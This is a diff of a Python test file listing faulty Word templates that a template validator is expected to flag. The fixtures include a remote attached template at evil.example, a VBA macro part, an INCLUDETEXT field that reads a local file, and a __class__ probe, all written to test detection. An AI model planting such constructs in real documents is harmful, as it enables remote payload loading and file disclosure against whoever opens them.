@@ -18,7 +18,7 @@ def row(*cells: str) -> str:
     return Grid(*[3000] * len(cells)).row(*(cell("CellText", each) for each in cells)).xml()
 
 
-FAULTS = {
+FAULTS: dict[str, tuple[bytes, str, str]] = {
     "a misspelt field": (make.template("ชื่อ {{ offce_name }}"), "ชื่อ {{ offce_name }}", "'office_name' meant"),
     "a misspelt part": (make.template("{% for g in goals %}{{ g.titel }}{% endfor %}"), "g.titel", "'title' meant"),
     "a field of the list's rows used on the list": (make.template("{{ goals.title }}"), "goals.title", "no field named 'title'"),
@@ -38,9 +38,9 @@ FAULTS = {
     "an unknown filter": (make.template("{{ vision | upper }}"), "upper", "upper"),
     "an attribute of Python": (make.template("{{ vision.__class__ }}"), "__class__", "no field named '__class__'"),
     "tracked changes": (make.template(body='<w:p><w:del w:id="1" w:author="a"><w:r><w:delText>{{ vision }}</w:delText></w:r></w:del></w:p>'), "vision", "tracked changes"),
-    "tags in a comment": (make.changed(make.template("x"), **{"word/comments.xml": "<w:comments xmlns:w='x'><w:t>{{ vision }}</w:t></w:comments>", "[Content_Types].xml": make.part(make.template("x"), "[Content_Types].xml").replace(b"</Types>", b'<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/></Types>')}), "comments.xml", "not filled in here"),
-    "macros": (make.changed(make.template("x"), **{"word/vbaProject.bin": b"x"}), "vbaProject", "macros"),
-    "a template from elsewhere": (make.changed(make.template("x"), **{"word/_rels/settings.xml.rels": '<Relationships xmlns="r"><Relationship Id="a" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'}), "settings.xml.rels", "http://evil.example/t.dotm"),
+    "tags in a comment": (make.changed(make.template("x"), {"word/comments.xml": "<w:comments xmlns:w='x'><w:t>{{ vision }}</w:t></w:comments>", "[Content_Types].xml": make.part(make.template("x"), "[Content_Types].xml").replace(b"</Types>", b'<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/></Types>')}), "comments.xml", "not filled in here"),
+    "macros": (make.changed(make.template("x"), {"word/vbaProject.bin": b"x"}), "vbaProject", "macros"),
+    "a template from elsewhere": (make.changed(make.template("x"), {"word/_rels/settings.xml.rels": '<Relationships xmlns="r"><Relationship Id="a" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'}), "settings.xml.rels", "http://evil.example/t.dotm"),
     "a field that reads a file": (make.template(body=paragraph("Plain", "<w:r><w:instrText>INCLUDETEXT C:\\\\x</w:instrText></w:r>")), "document.xml", "INCLUDETEXT"),
     "a table torn by a condition": (make.template(body=Grid(3000).row(cell("CellText", "{% if draft %}ใน")).xml() + paragraph("Plain", "นอก{% endif %}")), "", "break the document"),
 }  # fmt: skip
